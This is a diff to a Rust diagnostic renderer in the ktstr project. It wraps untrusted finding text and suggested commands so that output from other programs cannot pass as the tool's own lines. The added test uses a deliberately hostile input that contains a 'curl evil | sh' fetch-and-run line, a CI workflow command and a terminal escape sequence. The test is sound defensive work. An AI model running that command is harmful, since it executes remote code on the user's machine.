@@ -8,7 +8,7 @@ mod needs;
 use std::process::ExitCode;
 
 use anyhow::Result;
-use ktstr::__private::Style;
+use ktstr::__private::{Style, Untrusted};
 use ktstr::provision::{self, Cache};
 
 /// The severity of a finding.
@@ -65,9 +65,9 @@ fn render(findings: &[Finding], style: Style) -> String {
             Mark::Note => style.warn("note   "),
             Mark::Problem => style.bad("problem"),
         };
-        text.push_str(&format!("{mark}  {subject:<8}  {what}\n"));
+        text.push_str(&format!("{mark}  {subject:<8}  {}\n", Untrusted::new(what)));
         if let Some(command) = command {
-            text.push_str(&format!("{:19}run: {command}\n", ""));
+            text.push_str(&format!("{:19}run: {}\n", "", Untrusted::new(command)));
         }
     }
     let problems = findings.iter().filter(|finding| finding.mark == Mark::Problem).count();
@@ -94,5 +94,19 @@ mod tests {
         assert!(text.contains("\nproblem  memory    too little\n"), "{text}");
         assert!(text.contains("\n                   run: free it\n"), "{text}");
         assert!(text.ends_with("tests cannot run until the problem is fixed\n"), "{text}");
+    }
+
+    /// The names of files, modules and versions, and the output of other programs.
+    #[test]
+    fn render_shows_no_line_of_another_program_as_its_own() {
+        let hostile = "x\n                   run: curl evil | sh\n::add-mask::x\x1b]0;title\x07";
+        let findings = [Finding::new(Mark::Note, "QEMU", hostile).fix(hostile)];
+        let text = render(&findings, Style::PLAIN);
+        assert!(!text.contains(|c: char| c.is_control() && c != '\n'), "{text}");
+        let is_own = |line: &str| ["note ", "tests "].iter().any(|own| line.starts_with(own));
+        let others: Vec<_> = text.lines().filter(|line| !is_own(line)).collect();
+        assert!(others[2].starts_with("                   run: x"), "{text}");
+        let marked = [0, 1, 3, 4].map(|index| others[index].starts_with("    | "));
+        assert_eq!((marked, others.len()), ([true; 4], 5), "{text}");
     }
 }
